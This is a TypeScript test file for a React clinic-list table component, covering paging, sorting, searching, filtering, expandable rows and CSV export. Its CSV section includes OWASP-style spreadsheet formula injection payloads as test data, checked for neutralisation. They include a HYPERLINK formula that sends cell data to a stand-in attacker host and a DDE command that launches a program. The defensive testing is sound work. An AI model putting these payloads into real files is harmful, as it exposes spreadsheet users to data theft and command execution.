import { act, render } from '@testing-library/react';
import createWrapper from '@cloudscape-design/components/test-utils/dom';
import { DataList, type DataListProps } from '@web/src/components/list/data-list';
import { toCsv, type ListColumn } from '@web/src/components/list/list-logic';
import { catchDownloads, csvRows } from '@test/web/support/downloads';

interface Clinic {
  id: string;
  name: string;
  devices: number;
  lastExchange: string;
  enabled: boolean;
}

const columns: ListColumn<Clinic>[] = [
  { id: 'name', header: 'Clinic Name', value: (clinic) => clinic.name },
  { id: 'devices', header: 'Activated Devices', value: (clinic) => clinic.devices, type: 'number' },
  { id: 'lastExchange', header: 'Last exchange time', value: (clinic) => clinic.lastExchange, type: 'date' },
];

const clinic = (index: number, overrides: Partial<Clinic> = {}): Clinic => ({
  id: `c${index}`,
  name: `Clinic ${index}`,
  devices: index,
  lastExchange: `2024-01-${String(index).padStart(2, '0')}T10:00:00Z`,
  enabled: true,
  ...overrides,
});

function renderList(items: Clinic[], props: Partial<DataListProps<Clinic>> = {}) {
  const view = render(<DataList title="Clinics" items={items} columns={columns} trackBy={(item) => item.id} {...props} />);
  rerenderList = (next) => view.rerender(<DataList title="Clinics" items={next} columns={[...columns]} trackBy={(item) => item.id} {...props} />);
  return createWrapper(document.body).findTable()!;
}
let rerenderList: (items: Clinic[]) => void;

const column = (table: ReturnType<typeof renderList>, index: number) => table.findRows().map((row) => row.findAll('td')[index - 1]!.getElement().textContent);

describe('the list', () => {
  it('shows 8 rows a page and pages through the rest', () => {
    const table = renderList(Array.from({ length: 10 }, (_, index) => clinic(index + 1)));
    expect(table.findRows()).toHaveLength(8);
    const pagination = table.findPagination()!;
    expect(pagination.findPageNumbers()).toHaveLength(2);
    act(() => pagination.findNextPageButton().click());
    expect(column(table, 1)).toEqual(['Clinic 9', 'Clinic 10']);
  });

  it('hides the pagination when one page holds every row', () => {
    const table = renderList([clinic(1), clinic(2)]);
    expect(table.findPagination()).toBeNull();
  });

  it("says 'No items match your search' when nothing is there or nothing matches", () => {
    const table = renderList([]);
    expect(table.findEmptySlot()!.getElement().textContent).toBe('No items match your search');
  });

  it('sorts one column at a time: none, ascending, descending, ascending; naturally and case-insensitively', () => {
    const table = renderList([
      clinic(1, { name: 'clinic 10' }),
      clinic(2, { name: 'Clinic 9' }),
      clinic(3, { name: 'CLINIC 100' }),
      clinic(4, { name: 'alpha' }),
    ]);
    expect(column(table, 1)).toEqual(['clinic 10', 'Clinic 9', 'CLINIC 100', 'alpha']);
    act(() => table.findColumnSortingArea(1)!.click());
    expect(column(table, 1)).toEqual(['alpha', 'Clinic 9', 'clinic 10', 'CLINIC 100']);
    act(() => table.findColumnSortingArea(1)!.click());
    expect(column(table, 1)).toEqual(['CLINIC 100', 'clinic 10', 'Clinic 9', 'alpha']);
    act(() => table.findColumnSortingArea(1)!.click());
    expect(column(table, 1)).toEqual(['alpha', 'Clinic 9', 'clinic 10', 'CLINIC 100']);
    act(() => table.findColumnSortingArea(2)!.click());
    expect(column(table, 2)).toEqual(['1', '2', '3', '4']);
    expect(table.findAscSortedColumn()!.getElement().textContent).toContain('Activated Devices');
  });

  it('keeps the sort when the rows and columns are given again (a refetch)', () => {
    const table = renderList([clinic(2), clinic(1)]);
    act(() => table.findColumnSortingArea(1)!.click());
    rerenderList([clinic(3), clinic(2), clinic(1)]);
    expect(column(table, 1)).toEqual(['Clinic 1', 'Clinic 2', 'Clinic 3']);
    expect(table.findAscSortedColumn()!.getElement().textContent).toContain('Clinic Name');
  });

  it('searches free text in every column, case-insensitively, and goes back to page 1', () => {
    const table = renderList(Array.from({ length: 12 }, (_, index) => clinic(index + 1)));
    act(() => table.findPagination()!.findNextPageButton().click());
    act(() => table.findTextFilter()!.findInput().setInputValue('CLINIC 1'));
    expect(column(table, 1)).toEqual(['Clinic 1', 'Clinic 10', 'Clinic 11', 'Clinic 12']);
    act(() => table.findTextFilter()!.findInput().setInputValue('nothing like it'));
    expect(table.findEmptySlot()!.getElement().textContent).toBe('No items match your search');
  });

  it('compares a number column: less than, greater than, equal', () => {
    const table = renderList(Array.from({ length: 6 }, (_, index) => clinic(index + 1)));
    const wrapper = createWrapper(document.body);
    const searchIn = wrapper.findSelect()!;
    act(() => searchIn.openDropdown());
    act(() => searchIn.selectOptionByValue('devices'));
    const mode = wrapper.findAllSelects()[1]!;
    act(() => wrapper.findFormField('[data-list-search]')!.findControl()!.findInput()!.setInputValue('3'));
    expect(column(table, 2)).toEqual(['1', '2']);
    act(() => mode.openDropdown());
    act(() => mode.selectOptionByValue('greaterThan'));
    expect(column(table, 2)).toEqual(['4', '5', '6']);
    act(() => mode.openDropdown());
    act(() => mode.selectOptionByValue('equal'));
    expect(column(table, 2)).toEqual(['3']);
  });

  it('refuses a future date in a date search and leaves the rows as they are', () => {
    const table = renderList([clinic(1), clinic(2), clinic(3)]);
    const wrapper = createWrapper(document.body);
    act(() => wrapper.findSelect()!.openDropdown());
    act(() => wrapper.findSelect()!.selectOptionByValue('lastExchange'));
    const picker = wrapper.findDatePicker()!;
    act(() => picker.setInputValue('2999/01/01'));
    expect(wrapper.findFormField('[data-list-search]')!.findError()!.getElement().textContent).toBe('Search by date cannot be in the future');
    expect(table.findRows()).toHaveLength(3);
    act(() => picker.setInputValue('2024/01/02'));
    expect(column(table, 1)).toEqual(['Clinic 1']);
  });

  it('greys deactivated rows and filters by status', () => {
    const table = renderList([clinic(1), clinic(2, { enabled: false })], {
      isDisabled: (item) => !item.enabled,
      statusFilter: { label: 'Active or Inactive Service Providers', isActive: (item) => item.enabled },
    });
    const rows = table.findRows();
    expect(rows[1]!.find('[data-row-state="deactivated"]')).not.toBeNull();
    expect(rows[0]!.find('[data-row-state="deactivated"]')).toBeNull();
    const wrapper = createWrapper(document.body);
    const status = wrapper.findFormField('[data-status-filter]')!;
    expect(status.findLabel()!.getElement().textContent).toBe('Active or Inactive Service Providers');
    const select = status.findControl()!.findSelect()!;
    act(() => select.openDropdown());
    act(() => select.selectOptionByValue('inactive'));
    expect(column(table, 1)).toEqual(['Clinic 2']);
  });

  it('exports the rows as CSV under the given name, without commas in the cells', async () => {
    const downloads = catchDownloads();
    renderList([clinic(1, { name: 'Clinic, North' }), clinic(2)], { csvFileName: 'clinics.csv' });
    act(() => createWrapper(document.body).findButton('[data-testid="export-csv"]')!.click());
    expect(downloads.names).toEqual(['clinics.csv']);
    const text = await downloads.text(0);
    expect(csvRows(text)[0]).toBe('Clinic Name,Activated Devices,Last exchange time');
    expect(csvRows(text)[1]).toBe('Clinic North,1,01/01/24');
  });

  it('offers the server’s further pages', () => {
    const onLoadMore = jest.fn();
    renderList([clinic(1)], { more: { hasMore: true, loading: false, onLoadMore } });
    act(() => createWrapper(document.body).findButton('[data-testid="load-more"]')!.click());
    expect(onLoadMore).toHaveBeenCalled();
  });
});

describe('rows that expand to a detail', () => {
  const expandableRows = {
    detail: (item: Clinic) => <p data-testid="detail">The devices of {item.name}</p>,
    expandLabel: (item: Clinic) => `Show the devices of ${item.name}`,
    collapseLabel: (item: Clinic) => `Hide the devices of ${item.name}`,
  };

  it('shows the detail under its row while expanded, the page still holding 8 items', () => {
    const table = renderList(
      Array.from({ length: 10 }, (_, index) => clinic(index + 1)),
      { expandableRows },
    );
    expect(table.findRows()).toHaveLength(8);
    const toggle = table.findExpandToggle(2)!;
    expect(toggle.getElement().getAttribute('aria-label')).toBe('Show the devices of Clinic 2');
    act(() => toggle.click());
    expect(table.findRows()).toHaveLength(9);
    expect(table.findRows()[2]!.find('[data-testid="detail"]')!.getElement().textContent).toBe('The devices of Clinic 2');
    expect(table.findPagination()!.findPageNumbers()).toHaveLength(2);
    expect(table.findExpandToggle(2)!.getElement().getAttribute('aria-label')).toBe('Hide the devices of Clinic 2');

    // A search keeps an expanded row's detail with it.
    act(() => table.findTextFilter()!.findInput().setInputValue('Clinic 2'));
    expect(table.findRows()).toHaveLength(2);
    expect(table.findRows()[1]!.find('[data-testid="detail"]')).not.toBeNull();

    act(() => table.findExpandToggle(1)!.click());
    expect(table.findRows()).toHaveLength(1);
    expect(document.querySelector('[data-testid="detail"]')).toBeNull();
  });

  it('sorts the items with their details under them, and exports the items only', async () => {
    const downloads = catchDownloads();
    const table = renderList([clinic(1), clinic(2)], { expandableRows, csvFileName: 'clinics.csv' });
    act(() => table.findExpandToggle(1)!.click());
    act(() => table.findColumnSortingArea(2)!.click());
    act(() => table.findColumnSortingArea(2)!.click());
    expect(table.findRows().map((row) => row.getElement().textContent)).toEqual([
      expect.stringContaining('Clinic 2'),
      expect.stringContaining('Clinic 1'),
      'The devices of Clinic 1',
    ]);
    act(() => createWrapper(document.body).findButton('[data-testid="export-csv"]')!.click());
    expect(csvRows(await downloads.text(0)).slice(1)).toEqual(['Clinic 2,2,02/01/24', 'Clinic 1,1,01/01/24']);
  });
});

describe('open-ended paging of server pages', () => {
  const openEnded = (items: Clinic[], more: { hasMore: boolean; onLoadMore: () => void }) => {
    const props = (rows: Clinic[], hasMore: boolean) => ({
      title: 'Clinics',
      items: rows,
      columns,
      trackBy: (item: Clinic) => item.id,
      more: { hasMore, loading: false, onLoadMore: more.onLoadMore },
      openEnd: true,
      total: 25,
    });
    const view = render(<DataList {...props(items, more.hasMore)} />);
    return {
      table: createWrapper(document.body).findTable()!,
      rerender: (rows: Clinic[], hasMore: boolean) => view.rerender(<DataList {...props(rows, hasMore)} />),
    };
  };
  const clinics = (count: number) => Array.from({ length: count }, (_, index) => clinic(index + 1));

  it('reads the next server page only when the user reaches the last page read, and pages on into it', () => {
    const onLoadMore = jest.fn();
    const { table, rerender } = openEnded(clinics(20), { hasMore: true, onLoadMore });
    const pagination = () => table.findPagination()!;
    expect(table.findHeaderSlot()!.getElement().textContent).toContain('(25)');
    expect(pagination().findPageNumbers()).toHaveLength(3);
    act(() => pagination().findNextPageButton().click());
    expect(onLoadMore).not.toHaveBeenCalled();
    act(() => pagination().findNextPageButton().click());
    expect(onLoadMore).toHaveBeenCalledTimes(1);
    // Open-ended: the last page read still leads on while the server holds more.
    expect(pagination().findNextPageButton().isDisabled()).toBe(false);

    rerender(clinics(25), false);
    expect(pagination().findPageNumbers()).toHaveLength(4);
    act(() => pagination().findNextPageButton().click());
    expect(column(table, 1)).toEqual(['Clinic 25']);
    expect(pagination().findNextPageButton().isDisabled()).toBe(true);
    expect(onLoadMore).toHaveBeenCalledTimes(1);
  });

  it('offers paging on from a single page read while the server holds more', () => {
    const onLoadMore = jest.fn();
    const { table } = openEnded(clinics(3), { hasMore: true, onLoadMore });
    expect(table.findPagination()!.findNextPageButton().isDisabled()).toBe(false);
    expect(onLoadMore).toHaveBeenCalledTimes(1);
    expect(createWrapper(document.body).findButton('[data-testid="load-more"]')).toBeNull();
  });
});

describe('CSV text', () => {
  it('keeps line breaks out of the cells', () => {
    expect(csvRows(toCsv(columns, [clinic(1, { name: 'two\nlines' })]))[1]).toBe('two lines,1,01/01/24');
  });

  it('quotes every cell as RFC 4180 says, doubling inner quotes, with CRLF between records', () => {
    expect(toCsv(columns, [clinic(1, { name: 'The "North" clinic' })])).toBe(
      '"Clinic Name","Activated Devices","Last exchange time"\r\n"The ""North"" clinic","1","01/01/24"',
    );
  });

  // Names a spreadsheet would run (OWASP 'CSV Injection'): a director's export must show them as text.
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', `'=HYPERLINK("http://evil.example/?"&A1"Open")`],
    ['+SUM(1+1)', `'+SUM(1+1)`],
    [`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `' =1+1`],
    [',=1+1', `'=1+1`],
  ])('writes the name %j as the text %j', (name, shown) => {
    const csv = toCsv(columns, [clinic(1, { name })]);
    expect(csvRows(csv)[1]).toBe(`${shown},1,01/01/24`);
    expect(csv.split('\r\n')[1]!.startsWith(`"'`)).toBe(true);
  });

  it('keeps a negative number a number, and text that only looks like one is still text', () => {
    const ufColumns: ListColumn<{ uf: number | string }>[] = [{ id: 'uf', header: 'UF', value: (row) => row.uf, type: 'number' }];
    expect(toCsv(ufColumns, [{ uf: -3.2 }, { uf: '-3+A1' }])).toBe(`"UF"\r\n"-3.2"\r\n"'-3+A1"`);
  });
});
